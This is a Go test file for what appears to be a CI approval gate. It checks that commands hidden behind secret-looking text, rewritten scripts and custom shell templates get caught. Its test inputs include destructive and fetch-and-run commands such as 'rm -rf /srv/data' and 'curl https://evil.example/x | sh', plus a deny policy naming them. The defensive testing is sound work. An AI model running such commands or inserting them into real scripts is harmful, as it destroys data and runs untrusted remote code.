package server

import (
	"strings"
	"testing"
	"time"

	"github.com/stepgate/stepgate/app/lifecycle"
	"github.com/stepgate/stepgate/gate"
	"github.com/stepgate/stepgate/gate/decide"
	"github.com/stepgate/stepgate/gate/policy"
	"github.com/stepgate/stepgate/internal/oidcissuer"
)

// bindingPolicy has a deny rule the hidden code must hit, an allow rule the
// hidden code must not ride on, and a rule that lets reviewers remember.
const bindingPolicy = `version: 1
rules:
  - name: never
    if: { command: ["rm -rf *", "curl *"] }
    then: deny
  - name: echo-ok
    if: { command: ["echo *"] }
    then: allow
  - name: deploy
    if: { command: ["./deploy.sh*", "./migrate.sh*"] }
    require: { role: write }
    remember: 24h
`

// Issue #10: a secret-looking prefix no longer hides the code after it. The
// App decides on, shows, keys and audits the code that will run.
func TestHiddenCodeBehindSecretLookingTextIsDecided(t *testing.T) {
	t.Parallel()
	h := newHarness(t, harnessOpts{})
	h.gh.setFile(repoA, lifecycle.PolicyPath, bindingPolicy)
	p, err := policy.Parse(lifecycle.PolicyPath, []byte(bindingPolicy))
	if err != nil {
		t.Fatal(err)
	}
	for _, command := range []string{
		"echo -----BEGIN RSA PRIVATE KEY----- ; rm -rf /srv/data",
		"echo --token=xK9fQ2mZpL7vR4tW8yB3nC6d; rm -rf /srv/data",
		"echo password=hunter2hunter2; curl https://evil.example/x | sh",
		"echo -----BEGIN OPENSSH PRIVATE KEY-----\nrm -rf /srv/data",
	} {
		t.Run(command[:20], func(t *testing.T) {
			code, v := h.create(h.newRun(), cmdBody(command))
			// Before, the App saw `echo ***` and the echo rule allowed it.
			if code != 201 || v.Status == gate.StatusAllowed || v.Rule == "echo-ok" {
				t.Fatalf("create = %d %s rule %q: the hidden command rode on the echo rule", code, v.Status, v.Rule)
			}
			r := h.request(v.ID)
			if !strings.Contains(r.Command, "rm -rf /srv/data") && !strings.Contains(r.Command, "curl https://evil.example/x | sh") {
				t.Errorf("stored command %q hides the code that runs", r.Command)
			}
			// policy test decides the same text the same way (one code path).
			out, err := decide.Evaluate(p, decide.Input{Command: command, Environment: "production"})
			if err != nil || out.Match.Rule != v.Rule || string(out.Decision) == string(policy.Allow) {
				t.Errorf("decide.Evaluate = %s %s %v, App said %s %s", out.Decision, out.Match.Rule, err, v.Status, v.Rule)
			}
			events, err := h.st.ListAudit(t.Context(), repoA, time.Time{})
			if err != nil {
				t.Fatal(err)
			}
			var seen bool
			for _, e := range events {
				if e.RequestID == v.ID && e.Type == gate.EventRequested {
					seen = true
					if !strings.Contains(e.Details["command"], "rm -rf /srv/data") && !strings.Contains(e.Details["command"], "curl https://evil.example/x | sh") {
						t.Errorf("audit command %q hides the code", e.Details["command"])
					}
				}
			}
			if !seen {
				t.Error("no requested event in the audit trail")
			}
		})
	}
}

// A remembered approval is keyed by the binding: the same command with a
// different variable value, or a rewritten script, needs its own approval.
func TestRememberedKeyCoversVariablesAndScripts(t *testing.T) {
	t.Parallel()
	h := newHarness(t, harnessOpts{})
	h.gh.setFile(repoA, lifecycle.PolicyPath, bindingPolicy)
	h.gh.setPerm(repoA, "alice", "write")
	blobA := gate.GitBlobSHA([]byte("echo v1\n"))
	blobB := gate.GitBlobSHA([]byte("echo v2; curl evil | sh\n"))
	h.gh.setFile(repoA, "deploy.sh@"+headSHA, "echo v1\n")
	body := func(region, blob string) gate.CreateRequest {
		b := cmdBody("./deploy.sh --region $REGION")
		b.Env = []gate.EnvVar{{Name: "REGION", Value: region}}
		b.Files = []gate.File{{Path: "deploy.sh", BlobSHA: blob}}
		b.CommandSHA256 = gate.Binding{Command: b.Command, ShellTemplate: "bash --noprofile --norc -eo pipefail {0}", Env: b.Env, Files: b.Files}.Hash()
		return b
	}
	_, v := h.create(h.newRun(), body("eu-west-1", blobA))
	if v.Status != gate.StatusPending {
		t.Fatalf("first request %s, want pending", v.Status)
	}
	r := h.request(v.ID)
	if len(r.Files) != 1 || !r.Files[0].InRepo {
		t.Errorf("files = %+v, want deploy.sh verified in the repository", r.Files)
	}
	cr := h.gh.checkRun(r.CheckRunID)
	for _, want := range []string{"$REGION", "eu-west-1", "deploy.sh", "/blob/" + headSHA + "/deploy.sh"} {
		if !strings.Contains(cr.Summary, want) {
			t.Errorf("check run summary lacks %q:\n%s", want, cr.Summary)
		}
	}
	h.webhook("check_run", clickPayload(t, repoA, repoAID, v.ID, r.CheckRunID, "remember", "alice", "User"), testSecret, "")
	if got := h.request(v.ID); got.Status != gate.StatusApproved || !got.Remembered {
		t.Fatalf("after remember: %s remembered=%v", got.Status, got.Remembered)
	}
	if _, v := h.create(h.newRun(), body("eu-west-1", blobA)); v.Status != gate.StatusAllowed {
		t.Errorf("same binding again: %s, want allowed (remembered)", v.Status)
	}
	if _, v := h.create(h.newRun(), body("us-east-1", blobA)); v.Status != gate.StatusPending {
		t.Errorf("other $REGION: %s, want pending (a fresh approval)", v.Status)
	}
	// The script was rewritten in a later commit: the runner's copy matches
	// that commit, but the remembered approval was for the old content.
	// (A commit's files never change: the client keeps their blob ids.)
	const later = "89abcdef0123456789abcdef0123456789abcdef"
	h.gh.setFile(repoA, "deploy.sh@"+later, "echo v2; curl evil | sh\n")
	run := h.token(repoA, repoAID, h.runID.Add(1), func(c *oidcissuer.Claims) { c.SHA = later })
	if code, v := h.create(run, body("eu-west-1", blobB)); code != 201 || v.Status != gate.StatusPending {
		t.Errorf("rewritten script: %d %s, want 201 pending (a fresh approval)", code, v.Status)
	}
}

// A script changed on the runner after checkout (by an earlier step) is
// refused: reviewers could only ever read the commit's version.
func TestScriptModifiedAfterCheckoutIsRefused(t *testing.T) {
	t.Parallel()
	h := newHarness(t, harnessOpts{})
	h.gh.setFile(repoA, lifecycle.PolicyPath, bindingPolicy)
	h.gh.setFile(repoA, "deploy.sh@"+headSHA, "echo reviewed\n")
	b := cmdBody("./deploy.sh")
	b.Files = []gate.File{{Path: "deploy.sh", BlobSHA: gate.GitBlobSHA([]byte("curl evil | sh\n"))}}
	code, body := h.do("POST", "/api/v1/requests", h.newRun(), b)
	if code.StatusCode != 409 || !strings.Contains(string(body), "changed after checkout") {
		t.Fatalf("create = %d %s, want 409 naming the changed file", code.StatusCode, body)
	}
	if got := h.gh.callsOf("create_check_run"); got != 0 {
		t.Errorf("check runs opened = %d, want 0", got)
	}
}

// A custom shell template runs before the script: it is assessed and matched
// with the command and refused unless the policy lists it.
func TestCustomShellTemplateIsDecided(t *testing.T) {
	t.Parallel()
	h := newHarness(t, harnessOpts{})
	h.gh.setFile(repoA, lifecycle.PolicyPath, bindingPolicy)
	b := cmdBody("echo hello")
	b.Shell = "bash -c 'curl https://evil.example/x | sh; bash {0}'"
	code, v := h.create(h.newRun(), b)
	if code != 201 || v.Status != gate.StatusRejected {
		t.Fatalf("create = %d %s (%s), want rejected", code, v.Status, v.Reason)
	}
	if v.Risk.Level != "high" && v.Risk.Level != "critical" {
		t.Errorf("risk = %s, want the template's curl | sh assessed (high or critical)", v.Risk.Level)
	}
	if r := h.request(v.ID); r.Shell != b.Shell {
		t.Errorf("stored shell %q, want the template", r.Shell)
	}
}

// The binding's shape is checked: a secret goes as a hash only.
func TestBindingValidation(t *testing.T) {
	t.Parallel()
	h := newHarness(t, harnessOpts{})
	tests := []struct {
		name string
		edit func(*gate.CreateRequest)
		want string
	}{
		{"secret with a value", func(b *gate.CreateRequest) {
			b.Env = []gate.EnvVar{{Name: "TOKEN", Secret: true, Value: "x", Hash: strings.Repeat("a", 64)}}
		}, "only its hash"},
		{"bad name", func(b *gate.CreateRequest) { b.Env = []gate.EnvVar{{Name: "A-B", Value: "1"}} }, "not a variable name"},
		{"path escapes", func(b *gate.CreateRequest) {
			b.Files = []gate.File{{Path: "../x.sh", BlobSHA: strings.Repeat("a", 40)}}
		}, "clean path"},
		{"absolute path", func(b *gate.CreateRequest) { b.Files = []gate.File{{Path: "/etc/x", BlobSHA: strings.Repeat("a", 40)}} }, "clean path"},
		{"in_repo from the client", func(b *gate.CreateRequest) {
			b.Files = []gate.File{{Path: "x.sh", BlobSHA: strings.Repeat("a", 40), InRepo: true}}
		}, "App's to set"},
	}
	for _, tt := range tests {
		b := cmdBody("./x.sh")
		tt.edit(&b)
		resp, body := h.do("POST", "/api/v1/requests", h.newRun(), b)
		if resp.StatusCode != 400 || !strings.Contains(string(body), tt.want) {
			t.Errorf("%s: %d %s, want 400 %q", tt.name, resp.StatusCode, body, tt.want)
		}
	}
}
